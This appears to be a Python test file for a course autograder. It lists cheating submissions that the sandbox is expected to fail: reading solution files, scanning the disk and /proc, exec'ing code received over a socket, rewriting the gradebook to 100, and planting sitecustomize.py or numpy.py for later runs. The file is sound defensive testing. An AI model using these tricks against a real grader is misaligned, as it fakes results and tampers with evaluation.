"""Looking for answers."""

from __future__ import annotations

import os
from pathlib import Path

from tests.course.grading.papers.paper import NUMPY, Paper, hands_in

STOLEN = "stolen answer"
FIND = """
import os
def find(ending, limit=20000):
    for place, folders, names in os.walk('/'):
        for name in names:
            limit -= 1
            if limit < 0: return
            if name.endswith(ending): yield os.path.join(place, name)
"""


@hands_in(STOLEN, loses="max-pool-2x2")
def the_courses_own_pooling(paper: Paper) -> None:
    paper.answer(
        "max-pool-2x2",
        "import sys, glob\nsys.path += [*glob.glob('/**/src', recursive=False), *glob.glob('/*/*/src'), "
        f"{str(Path(__file__).parents[4] / 'src')!r}]\n"
        "import pooling.numpy_layer\ndef max_pool_2x2(x): return pooling.numpy_layer.max_pool2d(x, 2)",
    )


@hands_in(STOLEN, loses="max-pool-2x2")
def the_solutions_are_read(paper: Paper) -> None:
    paper.answer(
        "max-pool-2x2",
        f"source = open({str(paper.course / 'solutions' / (NUMPY + '.md'))!r}).read()\n"
        "exec(source[source.index('def max_pool_2x2'):].split('```')[0])",
    )


@hands_in(STOLEN, loses="max-pool-2x2")
def the_disk_is_searched(paper: Paper) -> None:
    paper.answer(
        "max-pool-2x2",
        FIND + "found = [*find('02_numpy_layer.md'), *find('cases.json'), *find('gradebook.db')]\n"
        "print(found)\nassert found\n"
        "source = open(found[0]).read()\nexec(source[source.index('def max_pool_2x2'):].split('```')[0])",
    )


@hands_in(STOLEN, loses="max-pool-2x2")
def the_graders_memory_is_read(paper: Paper) -> None:
    paper.answer(
        "max-pool-2x2",
        """
        import os
        for pid in range(1, 5000):
            for what in ('mem', 'maps', 'environ', 'cmdline', 'root', 'cwd', 'fd'):
                path = f'/proc/{pid}/{what}'
                if os.path.exists(path) and what in ('environ', 'cmdline'):
                    text = open(path).read()
                    assert not text, text
        assert False, 'nothing to be found'
        """,
    )


@hands_in(STOLEN, loses="max-pool-2x2")
def the_answer_comes_over_the_network(paper: Paper) -> None:
    paper.answer(
        "max-pool-2x2",
        """
        import socket
        for host in ('127.0.0.1', '10.0.0.1', '8.8.8.8'):
            try: found = socket.create_connection((host, 80), 1)
            except OSError: found = None
        assert found
        exec(found.recv(1000))
        """,
    )


@hands_in(STOLEN, loses="max-pool-2x2")
def the_gradebook_is_written(paper: Paper) -> None:
    paper.answer(
        "max-pool-2x2",
        f"import sqlite3\nwith sqlite3.connect({str(paper.course / 'grading' / 'gradebook.db')!r}) as book:\n"
        "    book.execute('update grade set auto_score = 100')",
    )


@hands_in(STOLEN, loses="max-pool-2x2")
def something_is_left_for_the_next_one(paper: Paper) -> None:
    paper.answer(
        "max-pool-2x2",
        """
        import os
        answer = 'def max_pool_2x2(x): return x.reshape(len(x), x.shape[1] // 2, 2, x.shape[2] // 2, 2).max((2, 4))'
        places = ['/tmp', '/home', '/dev/shm', '/var/tmp', '/', '/opt', '/opt/site', '/opt/course', '/dev', '/usr']
        for place in places:
            for name in ('sitecustomize.py', 'left', 'numpy.py'):
                path = os.path.join(place, name)
                if os.path.exists(path): exec(open(path).read())
                try: open(path, 'w').write(answer)
                except OSError: pass
        """,
    )


@hands_in(STOLEN, loses="max-pool-2x2")
def something_was_left_by_the_last_one(paper: Paper) -> None:
    something_is_left_for_the_next_one(paper)


@hands_in(STOLEN, loses="max-pool-2x2")
def a_link_leads_to_the_solutions(paper: Paper) -> None:
    paper.meddle = lambda folder: os.symlink(paper.course / "solutions", folder / "solutions")
    paper.answer(
        "max-pool-2x2",
        f"""
        source = open('solutions/{NUMPY}.md').read()
        exec(source[source.index('def max_pool_2x2'):].split('```')[0])
        """,
    )
